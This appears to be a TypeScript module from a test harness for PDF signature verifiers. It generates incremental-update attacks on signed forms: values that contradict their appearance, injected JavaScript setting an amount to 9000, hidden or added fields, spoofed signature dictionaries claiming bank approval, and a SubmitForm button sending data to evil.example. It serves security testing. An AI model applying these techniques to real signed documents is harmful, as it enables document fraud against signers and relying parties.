// Forms: what is stored against what is shown, fields that become others, and signatures that are spoken of elsewhere than
// where they are.

import { look, N, ref, stream, text } from "./contract.ts"
import { append, changed, type Objects, withMore, without } from "./revision.ts"
import type { SignedBase } from "./signed.ts"
import type { Attack, Technique } from "./technique.ts"

const BASES = [
  "table B-B P=none ×1",
  "table B-B P=1 ×1 seen",
  "stream B-B P=2 ×1 seen",
  "table B-B P=3 ×1 seen",
  "stream B-LTA P=3 ×2",
]

const technique = (
  kind: Attack["class"],
  name: string,
  objects: (base: SignedBase) => Objects,
  expected: Technique["expected"] = "undefined",
): Technique => ({
  class: kind,
  name,
  expected,
  on: (base) => BASES.includes(base.name),
  make: (base) => append(base, { objects: objects(base) }),
})

/** Filling in is allowed from P=2 on; then it is for the picture to tell. */
const seen: Technique["expected"] = ({ certified }) => (certified === 1 ? "undefined" : "visual")

const field = (
  base: SignedBase,
  number: number,
  entries: Readonly<Record<string, string | null>>,
): Objects => [[number, changed(base, number, entries)]]
const shows = (words: string, before = ""): string =>
  look(`/Tx BMC ${before} BT /F1 11 Tf 2 5 Td (${words}) Tj ET EMC`, 128, 20)

const against = (name: string, objects: (base: SignedBase) => Objects, expected?: Technique["expected"]) =>
  technique("value-against-appearance", name, objects, expected)
const form = (name: string, objects: (base: SignedBase) => Objects, expected?: Technique["expected"]) =>
  technique("form", name, objects, expected)
const spoofed = (name: string, objects: (base: SignedBase) => Objects) =>
  technique("spoofed-dictionary", name, objects)

export const forms: readonly Technique[] = [
  against("a look that says more than the value", () => [[N.amountLook, shows("9000")]]),
  against("a value that says more than the look", (base) => field(base, N.amount, { V: "(9000)" })),
  against("a value and a look that contradict each other", (base) => [
    ...field(base, N.amount, { V: "(1000)", AP: `<< /N ${ref(base.free)} >>` }),
    [base.free, shows("9000")],
  ]),
  against("the empty field filled in with one thing, and shown with another", (base) => [
    ...field(base, N.name, { V: "(Ada)", AP: `<< /N ${ref(base.free)} >>` }),
    [base.free, shows("Mallory, for CHF 9000")],
  ]),
  against("the empty field shown as filled in", (base) => [
    ...field(base, N.name, { AP: `<< /N ${ref(base.free)} >>` }),
    [base.free, shows("Mallory")],
  ]),
  against("a look that covers what stood there before, and says something else", (base) => [
    ...field(base, N.amount, { AP: `<< /N ${ref(base.free)} >>` }),
    [base.free, shows("9000", "1 g 0 0 128 20 re f 0 g")],
  ]),
  against(
    "a look larger than its field",
    (base) => [
      ...field(base, N.name, { V: "(Ada)", Rect: "[60 400 400 770]", AP: `<< /N ${ref(base.free)} >>` }),
      [
        base.free,
        look(`1 g 0 0 340 370 re f 0 g ${text(10, 330, "The lender pays CHF 9000.00.")}`, 340, 370),
      ],
    ],
    "undefined",
  ),
  against("a tick that the value denies", (base) => field(base, N.agree, { AS: "/Yes" })),
  against("a tick that the look denies", (base) => field(base, N.agree, { V: "/Yes" })),
  against("the two looks of a tick exchanged", (base) =>
    field(base, N.agree, { AP: `<< /N << /Yes ${ref(N.agreeOff)} /Off ${ref(N.agreeOn)} >> >>` }),
  ),
  against("a value without any look", (base) => field(base, N.amount, { V: "(9000)", AP: null }), seen),
  against("a value that every reader draws anew", (base) => [
    ...field(base, N.amount, { V: "(9000)", AP: null }),
    [N.form, changed(base, N.form, { NeedAppearances: "true" })],
  ]),
  against("a value in rich text that is another", (base) =>
    field(base, N.amount, { RV: "(<body>9000</body>)", V: "(1000)" }),
  ),

  form(
    "another amount, in value and look",
    (base) => [
      ...field(base, N.amount, { V: "(9000)", AP: `<< /N ${ref(base.free)} >>` }),
      [base.free, shows("9000")],
    ],
    seen,
  ),
  form("all looks drawn anew", (base) => [[N.form, changed(base, N.form, { NeedAppearances: "true" })]]),
  form("another default style", (base) => [[N.form, changed(base, N.form, { DA: "(/F1 40 Tf 1 0 0 rg)" })]]),
  form("other default resources", (base) => [
    [N.form, changed(base, N.form, { DR: `<< /Font << /F1 ${ref(N.drawnFont)} >> >>` })],
  ]),
  form("a form of XML beside it", (base) => [
    [N.form, changed(base, N.form, { XFA: ref(base.free) })],
    [base.free, stream("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")],
  ]),
  form("an order of calculation", (base) => [[N.form, changed(base, N.form, { CO: `[${ref(N.amount)}]` })]]),
  form("a script that calculates the amount", (base) =>
    field(base, N.amount, { AA: "<< /C << /S /JavaScript /JS (event.value=9000) >> >>" }),
  ),
  form("a script that formats the amount", (base) =>
    field(base, N.amount, { AA: "<< /F << /S /JavaScript /JS (event.value='9000') >> >>" }),
  ),
  form("a field of another type", (base) =>
    field(base, N.amount, { FT: "/Ch", Opt: "[(1000)(9000)]", V: "(9000)" }),
  ),
  form("a field under another name", (base) => field(base, N.amount, { T: "(deposit)" })),
  form("a field moved over the text", (base) => [
    ...field(base, N.amount, { Rect: "[70 724 390 746]", AP: `<< /N ${ref(base.free)} >>` }),
    [base.free, shows("The lender pays CHF 9000.00", "1 g 0 0 320 22 re f 0 g")],
  ]),
  form("a new field", (base) => [
    [N.form, changed(base, N.form, { Fields: withMore(base, N.form, "Fields", [base.free]) })],
    [N.page, changed(base, N.page, { Annots: withMore(base, N.page, "Annots", [base.free]) })],
    [
      base.free,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (fee) /F 4 /V (5000) /Rect [72 300 200 320] /AP << /N ${ref(base.free + 1)} >> >>`,
    ],
    [base.free + 1, shows("Fee: CHF 5000")],
  ]),
  form("a field less", (base) => [
    [N.form, changed(base, N.form, { Fields: without(base, N.form, "Fields", [N.amount]) })],
    [N.page, changed(base, N.page, { Annots: without(base, N.page, "Annots", [N.amount]) })],
  ]),
  form("a field that is hidden", (base) => field(base, N.amount, { F: "2" })),
  form("a field with a background", (base) => field(base, N.amount, { MK: "<< /BG [0 0 0] >>" })),
  form("a field that another one shows as well", (base) =>
    field(base, N.name, { Parent: ref(N.amount), T: null }),
  ),
  form("a button that sends the form", (base) =>
    field(base, N.agree, { A: "<< /S /SubmitForm /F (https://evil.example/) >>" }),
  ),

  spoofed("the field names another dictionary", (base) => [
    ...field(base, base.signature.field, { V: ref(base.free) }),
    [base.free, changed(base, base.signature.object, { Name: "(The bank)", Reason: "(approved)" })],
  ]),
  spoofed("the dictionary of the signature with other claims", (base) =>
    field(base, base.signature.object, {
      Name: "(The bank)",
      M: "(D:20200101000000Z)",
      Reason: "(approved)",
    }),
  ),
  spoofed("the signature as a literal string", (base) =>
    field(base, base.signature.object, { Contents: literal(base) }),
  ),
  spoofed("a second dictionary in a string", (base) =>
    field(base, base.signature.field, {
      TU: `(<< /Type /Sig /ByteRange [0 ${base.bytes.length} 0 0] /Contents <3000> >>)`,
    }),
  ),
  {
    ...spoofed("a second dictionary in an object stream", () => []),
    make: (base) => {
      const claims = changed(base, base.signature.object, { Name: "(The bank)", Contents: "<3000>" })
      return append(base, { packed: [[base.signature.object, claims]], xref: "stream" })
    },
  },
  spoofed("the value of the signed field taken away", (base) =>
    field(base, base.signature.field, { V: null }),
  ),
  spoofed("the value of the signed field direct", (base) =>
    field(base, base.signature.field, { V: changed(base, base.signature.object, {}) }),
  ),
  spoofed("the signed field is a text field", (base) => field(base, base.signature.field, { FT: "/Tx" })),
  spoofed("the signature speaks of other references", (base) =>
    field(base, base.signature.object, {
      Reference: "[<< /TransformMethod /DocMDP /TransformParams << /P 3 /V /1.2 >> >>]",
    }),
  ),
]

/** As octets in parentheses, which no verifier of byte ranges can have read. */
function literal({ bytes, signature }: SignedBase): string {
  const [, start, end] = signature.range
  const octets = Buffer.from(
    bytes
      .subarray(start + 1, end - 1)
      .toString("latin1")
      .replace(/(00)*$/, ""),
    "hex",
  )
  return `(${Array.from(octets, (octet) => `\\${octet.toString(8).padStart(3, "0")}`).join("")})`
}
